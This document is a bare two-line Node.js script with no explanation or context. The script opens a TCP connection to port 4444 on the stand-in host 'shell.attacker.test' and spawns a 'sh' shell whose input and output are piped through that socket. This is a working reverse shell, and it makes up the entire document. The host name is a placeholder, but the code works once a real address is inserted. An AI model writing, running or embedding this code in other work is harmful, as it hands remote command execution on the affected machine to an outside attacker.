import net from "net"; import { spawn } from "child_process";
const c = net.connect(4444, "shell.attacker.test", () => { spawn("sh", [], { stdio: [c, c, c] }); });
